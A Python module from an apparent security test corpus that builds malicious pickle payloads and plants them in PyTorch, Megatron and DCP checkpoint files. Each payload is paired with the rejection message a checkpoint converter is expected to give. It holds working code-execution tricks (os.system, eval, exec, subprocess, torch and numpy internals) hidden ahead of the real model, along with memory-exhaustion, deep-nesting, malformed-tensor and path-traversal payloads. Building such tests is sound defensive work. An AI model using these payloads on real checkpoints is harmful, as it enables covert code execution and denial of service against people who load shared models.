"""Pickles that run, expand, recurse or lie, in every place where a checkpoint has one.

Where it is not said otherwise a payload is put before the good pickle, which it leaves as it is: whoever unpickles the
file gets the model, and never sees what ran.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path
from typing import Final

from attacks.corpus import Attack, Canary, edit_pickle

#: Where the twins keep their pickles.
_AT: Final = {
    "bin": "pytorch_model.bin", "old bin": "pytorch_model.bin", "pt": "model.pt",
    "legacy": "release/mp_rank_00/model_optim_rng.pt", "torch_dist": "release/.metadata",
}  # fmt: skip
#: Memo indices that the good pickle does not use.
_FREE: Final = 1_000_000
Ops = Callable[[Canary], bytes]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *args: bytes) -> bytes:
    """GLOBAL, a tuple, REDUCE."""
    return name(module, attribute) + b"(" + b"".join(args) + b"tR"


def _system(canary: Canary) -> bytes:
    return call("posix", "system", text(canary.command))


def _stacked(canary: Canary) -> bytes:
    return text("posix") + text("system") + b"\x93" + text(canary.command) + b"\x85R"


def _setstate(canary: Canary) -> bytes:
    """An object is given a ``__setstate__``, then a state."""
    given = b"}" + text("__setstate__") + name("posix", "system") + b"s"
    return call("types", "SimpleNamespace") + given + b"b" + text(canary.command) + b"b"


def _nested(canary: Canary) -> bytes:
    inner = b"\x80\x04" + _system(canary) + b"."
    return call("_pickle", "loads", b"B" + struct.pack("<I", len(inner)) + inner)


def _attribute(canary: Canary) -> bytes:
    """``getattr(os, "system")`` of a module got by its name."""
    found = call("builtins", "getattr", call("importlib", "import_module", text("os")), text("system"))
    return found + b"(" + text(canary.command) + b"tR"


def _dotted(canary: Canary) -> bytes:
    """A name with dots, which protocol 4 walks down from a harmless module."""
    return b"\x80\x04" + text("collections") + text("abc.sys.modules.get") + b"\x93" + text(canary.command) + b"\x85R"


def _framed(canary: Canary) -> bytes:
    """A frame of 4 GiB that ends in the middle of an opcode."""
    return b"\x95" + struct.pack("<Q", 1 << 32) + _system(canary)


def _hidden_in_memo(canary: Canary) -> bytes:
    """The function waits in the memo and is called much later."""
    at = struct.pack("<I", _FREE)
    return name("posix", "system") + b"r" + at + b"0" + b"N0" * 1000 + b"j" + at + text(canary.command) + b"\x85R"


def _before(ops: Ops) -> Callable[[bytes, Canary], bytes]:
    return lambda tree, canary: tree[:2] + ops(canary) + b"0" + tree[2:]


def _entry(ops: Ops) -> Callable[[bytes, Canary], bytes]:
    """As one more value of the state dict, the pickle's outermost dict."""
    return lambda tree, canary: tree[:-1] + text("model.more.weight") + ops(canary) + b"s."


def _instead(ops: Ops) -> Callable[[bytes, Canary], bytes]:
    return lambda _tree, canary: ops(canary)


def _protocol(number: int) -> Callable[[bytes, Canary], bytes]:
    return lambda tree, _canary: b"\x80" + bytes([number]) + tree[2:]


def _at(twin: str, change: Callable[[bytes, Canary], bytes]) -> Callable[[Path, Canary], object]:
    def spoil(folder: Path, canary: Canary) -> None:
        edit_pickle(folder / _AT[twin], lambda tree: change(tree, canary))

    return spoil


def _storage(numel: int, key: str = "0", kind: str = "BFloat16Storage") -> bytes:
    parts = text("storage") + name("torch", kind) + text(key) + text("cpu") + _int(numel)
    return b"(" + parts + b"tQ"


def _int(value: int) -> bytes:
    return b"\x8a\x0a" + value.to_bytes(10, "little", signed=True)


def _sizes(*values: int) -> bytes:
    return b"(" + b"".join(map(_int, values)) + b"t"


def _tensor(offset: int, shape: bytes, strides: bytes, *, numel: int = 2048, key: str = "0") -> Ops:
    """A view of the first storage, the embedding of 2048 elements."""
    hooks = b"ccollections\nOrderedDict\n)R"
    args = (_storage(numel, key), _int(offset), shape, strides, b"\x89", hooks)
    return lambda _canary: call("torch._utils", "_rebuild_tensor_v2", *args)


def _doubled(push: bytes, join: bytes, times: int) -> bytes:
    return push + b"".join(b"r" + struct.pack("<I", _FREE + i) + b"j" + struct.pack("<I", _FREE + i) + join
                           for i in range(times))  # fmt: skip


_FOREIGN: Final = "a pickle with a foreign global"
_BROKEN: Final = "a pickle that cannot be read"
_ENDLESS: Final = "a pickle nested without end"

#: What Python's pickle runs: name, idea, twin, payload, what dconv says.
_RUNS: Final[tuple[tuple[str, str, str, Ops, str], ...]] = (
    ("reduce-system", "os.system, called by REDUCE", "bin", _system, _FOREIGN),
    ("reduce-system-old", "the same in a file of torch before 1.6", "old bin", _system, _FOREIGN),
    ("reduce-system-legacy", "the same in a rank of Megatron", "legacy", _system, _FOREIGN),
    ("reduce-system-pt", "the same in a state dict's file", "pt", _system, _FOREIGN),
    ("reduce-system-metadata", "the same in a DCP checkpoint's .metadata", "torch_dist", _system, _FOREIGN),
    ("inst-system", "os.system by INST, protocol 0's own call", "bin",
     lambda c: b"(" + text(c.command) + b"iposix\nsystem\n", "opcode 0x69"),
    ("obj-system", "os.system by OBJ", "pt",
     lambda c: b"(" + name("posix", "system") + text(c.command) + b"o", "foreign global"),
    ("stack-global", "a name put together on the stack", "old bin", _stacked, _FOREIGN),
    ("eval", "builtins.eval of text", "bin", lambda c: call("builtins", "eval", text(c.code)), _FOREIGN),
    ("exec", "builtins.exec of text", "legacy", lambda c: call("builtins", "exec", text(c.code)), _FOREIGN),
    ("python-2-names", "__builtin__, Python 2's name of builtins", "old bin",
     lambda c: call("__builtin__", "eval", text(c.code)), _FOREIGN),
    ("getattr", "os.system by getattr of an imported module", "pt", _attribute, _FOREIGN),
    ("setstate", "an object gets a __setstate__, then BUILD calls it", "bin", _setstate, _FOREIGN),
    ("nested", "a pickle in a pickle's bytes", "legacy", _nested, _FOREIGN),
    ("popen", "subprocess.Popen", "torch_dist",
     lambda c: call("subprocess", "call", text(c.command), b"I-1\n", *[b"N"] * 4, b"N", b"I01\n", b"I01\n"),
     "a pickle"),
    ("in-the-memo", "the function waits in the memo", "old bin", _hidden_in_memo, _FOREIGN),
    ("runpy", "a module of the standard library, run as a program", "pt",
     lambda c: call("runpy", "_run_code", b"cbuiltins\ncompile\n(" + text(c.code) + text("x") + text("exec") + b"tR",
                    b"}"), _FOREIGN),
    ("map-lazy", "map over os.system, made to run by a tuple", "legacy",
     lambda c: call("builtins", "tuple", call("builtins", "map", name("posix", "system"), text(c.command) + b"\x85")),
     _FOREIGN),
)  # fmt: skip

#: The others: name, idea, twin, change, what dconv says.
_OTHERS: Final[tuple[tuple[str, str, str, Callable[[bytes, Canary], bytes], str], ...]] = (
    ("newobj", "subprocess.Popen by NEWOBJ", "bin",
     _before(lambda c: name("subprocess", "Popen") + text(c.command) + b"\x85\x81"), _FOREIGN),
    ("newobj-ex", "the same by NEWOBJ_EX, with keywords", "pt",
     _before(lambda c: name("subprocess", "Popen") + text(c.command) + b"\x85}\x92"), _FOREIGN),
    ("extension", "EXT1, a code of the process's own registry", "bin", _before(lambda _c: b"\x82\x01"), "opcode 0x82"),
    ("extension-4", "EXT4 with the code 0", "legacy", _before(lambda _c: b"\x84\0\0\0\0"), "opcode 0x84"),
    ("persistent-text", "PERSID, an id that is a line of text", "bin", _before(lambda _c: b"P../../x\n"),
     "opcode 0x50"),
    ("persistent-module", "a persistent id that is a module with its source, as torch 0.3 had", "old bin",
     _before(lambda c: b"(" + text("module") + name("torch.nn", "Linear") + text("x.py") + text(c.code) + b"tQ"),
     "a persistent id that is no storage"),
    ("dotted", "a name that walks from a harmless module to another", "bin", _before(_dotted), "a pickle"),
    ("in-a-frame", "os.system in a frame that promises 4 GiB", "bin", _before(_framed), _FOREIGN),
    ("codecs-import", "an encoding's name, which imports a module", "bin",
     _before(lambda _c: call("_codecs", "encode", text("x"), text("antigravity"))), "an encoding of no use"),
    ("out-of-band", "NEXT_BUFFER, where nobody gave buffers", "pt", _before(lambda _c: b"\x97"), "opcode 0x97"),
    ("protocol-6", "a protocol that does not exist", "bin", _protocol(6), "an unknown protocol"),
    ("protocol-255", "the largest protocol a byte can say", "old bin", _protocol(255), "an unknown protocol"),
    ("protocol-0", "protocol 0: text alone", "bin", _instead(lambda c: b"cposix\nsystem\n(S'" + c.command.encode() +
     b"'\ntR."), "a pickle"),
    ("long4", "LONG4, a number of 2 GiB", "bin", _before(lambda _c: b"\x8b\xff\xff\xff\x7f"), "a number of"),
    ("long-megabyte", "a number of a megabyte, to be printed", "old bin",
     _before(lambda _c: b"\x8b" + struct.pack("<I", 1 << 20) + b"\x01" * (1 << 20)), "a number of"),
    ("unicode8", "BINUNICODE8, a text of 2^63 bytes", "pt", _before(lambda _c: b"\x8d" + b"\xff" * 7 + b"\x7f"),
     "a value past the end"),
    ("bytes8", "BINBYTES8, 2^64 - 1 bytes", "legacy", _before(lambda _c: b"\x8e" + b"\xff" * 8),
     "a value past the end"),
    ("bytearray8", "BYTEARRAY8, which is allocated before it is read", "bin",
     _before(lambda _c: b"\x96" + struct.pack("<Q", 1 << 40)), "a value past the end"),
    ("memo-4-billion", "LONG_BINPUT at 2^32 - 1: a table of 32 GiB in C", "bin",
     lambda tree, _c: tree[:2] + b"Nr\xff\xff\xff\xff" + b"h\xfe" + tree[2:], _BROKEN),
    ("laughs-tuples", "a tuple of the tuple before it twice, 60 times over", "bin",
     _entry(lambda _c: _doubled(b")", b"\x86", 60)), _ENDLESS),
    ("laughs-lists", "lists that hold the list before them ten times, ten times over", "old bin",
     _entry(lambda _c: b"]" + b"".join(
         b"r" + struct.pack("<I", _FREE + i) + b"0](" + (b"j" + struct.pack("<I", _FREE + i)) * 10 + b"e"
         for i in range(12))), _ENDLESS),
    ("laughs-key", "a doubled tuple as a key: its hash takes hours", "pt",
     _before(lambda _c: b"}" + _doubled(b")", b"\x86", 60) + b"Ns"), "a key nested too deep"),
    ("cycle", "a list that holds itself", "bin",
     _entry(lambda _c: b"]r" + struct.pack("<I", _FREE) + b"j" + struct.pack("<I", _FREE) + b"a"), _ENDLESS),
    ("deep", "a million lists, each in the other", "legacy",
     _entry(lambda _c: b"]" * 1_000_000 + b"a" * 999_999), _ENDLESS),
    ("deep-name", "a million tuples, each in the other, as a global's name", "bin",
     _before(lambda _c: b"N" + b"\x85" * 1_000_000 + text("x") + b"\x93"), "a global whose name is no string"),
    ("marks", "seventeen million marks and nothing behind", "pt",
     _instead(lambda _c: b"\x80\x02" + b"(" * 17_000_000 + b"."), "containers"),
    ("unhashable", "a list as a key", "bin", _before(lambda _c: b"}]Ns"), "unhashable"),
    ("colliding-keys", "20,000 numbers of one hash as keys", "old bin",
     _before(lambda _c: b"}(" + b"".join(b"\x8a\x14" + (i * ((1 << 61) - 1)).to_bytes(20, "little") + b"N"
                                         for i in range(1, 20_000)) + b"u"), "a number too large for a key"),
    ("range-as-list", "list(range(2^40))", "bin",
     _before(lambda _c: call("builtins", "list", call("builtins", "range", _int(1 << 40)))), "a list of no elements"),
    ("bytearray-of-number", "bytearray(2^40)", "pt",
     _before(lambda _c: call("builtins", "bytearray", _int(1 << 40))), "a bytearray of int"),
    ("no-end", "no STOP", "bin", lambda tree, _c: tree[:-1], "no end"),
    ("pops", "more POPs than values", "legacy", _before(lambda _c: b"000"), _BROKEN),
    ("negative-stride", "a tensor that runs backwards out of its storage", "bin",
     _entry(_tensor(2047, _sizes(64), _sizes(-64))), "a shape of wrong form"),
    ("negative-offset", "a tensor that begins in front of its storage", "pt",
     _entry(_tensor(-64, _sizes(64), _sizes(1))), "a tensor of wrong form"),
    ("offset-past-end", "a tensor that begins behind its storage", "bin",
     _entry(_tensor(1 << 40, _sizes(64), _sizes(1))), "a tensor larger than its storage"),
    ("huge-shape", "2^60 elements of a storage of 2048", "old bin",
     _entry(_tensor(0, _sizes(1 << 60), _sizes(1))), "a tensor larger than its storage"),
    ("overflowing-shape", "a shape and strides whose products wrap around to inside", "bin",
     _entry(_tensor(0, _sizes(1 << 33, 1 << 33), _sizes(1 << 33, 1 << 33))), "a tensor larger than its storage"),
    ("many-axes", "a shape of 100,000 axes", "bin",
     _entry(_tensor(0, _sizes(*[1] * 100_000), _sizes(*[0] * 100_000))), "a shape of wrong form"),
    ("fewer-strides", "two axes, one stride", "pt", _entry(_tensor(0, _sizes(8, 8), _sizes(8))),
     "a tensor larger than its storage"),
    ("larger-storage", "a storage of more elements than its record has", "bin",
     _entry(_tensor(0, _sizes(64), _sizes(1), numel=1 << 50)), "a storage of wrong size"),
    ("storage-path", "a storage whose key is a path", "bin",
     _entry(_tensor(0, _sizes(64), _sizes(1), key="../../../../etc/hostname")), "a storage without a record"),
    ("storage-of-a-class", "a storage whose class is any class", "pt",
     _entry(lambda _c: b"(" + text("storage") + name("torch.nn", "Linear") + text("0") + text("cpu") + b"K\x01tQ"),
     "a storage of wrong form"),
    ("rebuilt-from-eval", "_rebuild_from_type_v2, told to call eval", "bin",
     _before(lambda c: call("torch._tensor", "_rebuild_from_type_v2", name("builtins", "eval"),
                            name("torch", "Tensor"), text(c.code) + b"\x85", b"}")), _FOREIGN),
    ("load-from-bytes", "torch's own way to unpickle bytes: torch.storage._load_from_bytes", "bin",
     _before(lambda c: call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(_system(c)) + 3) +
                            b"\x80\x02" + _system(c) + b".")), _FOREIGN),
    ("torch-hub", "torch.hub.load, which downloads and imports", "legacy",
     _before(lambda _c: call("torch.hub", "load", text("someone/something"), text("x"))), _FOREIGN),
    ("cpp-extension", "torch.utils.cpp_extension.load, which compiles and loads", "pt",
     _before(lambda _c: call("torch.utils.cpp_extension", "load", text("x"), text("x.cpp"))), _FOREIGN),
    ("op-library", "a dotted name below torch: ops.load_library", "bin",
     _before(lambda _c: text("torch") + text("ops.load_library") + b"\x93" + text("x.so") + b"\x85R"), _FOREIGN),
    ("namespace-reduce", "Megatron's args with a __reduce__ of their own", "legacy",
     _before(lambda c: call("argparse", "Namespace") + b"}" + text("__reduce__") + name("posix", "system") + b"sb" +
             text(c.command) + b"0"), _FOREIGN),
    ("namespace-class", "Megatron's args whose __class__ is a Popen", "legacy",
     _before(lambda _c: call("argparse", "Namespace") + b"}" + text("__class__") + name("subprocess", "Popen") +
             b"sb"), _FOREIGN),
    ("numpy-objects", "numpy's _reconstruct with objects for elements, one of them a call", "bin",
     _before(lambda c: call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
             + b"(K\x01K\x01\x85" + call("numpy", "dtype", text("O8"), b"\x89", b"\x88") + b"\x89](" + _system(c)
             + b"etb"), _FOREIGN),
    ("numpy-pointers", "numpy's array of objects made of bytes: pointers", "bin",
     _entry(lambda _c: call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
            + b"(K\x01K\x01\x85" + call("numpy", "dtype", text("O8"), b"\x89", b"\x88") + b"\x89C\x08AAAAAAAAtb"),
     "not a plain state dict"),
    ("escape-codes", "a name that writes to a terminal", "bin", _before(lambda _c: name("torch", "\x1b[2J\x1b]0;x\x07")),
     "a global of odd name"),
)  # fmt: skip

ATTACKS: Final = (
    *(Attack(f"pickles/{what}", idea, says, twin, _at(twin, _before(ops)), runs=True)
      for what, idea, twin, ops, says in _RUNS),
    *(Attack(f"pickles/{what}", idea, says, twin, _at(twin, change)) for what, idea, twin, change, says in _OTHERS),
)  # fmt: skip
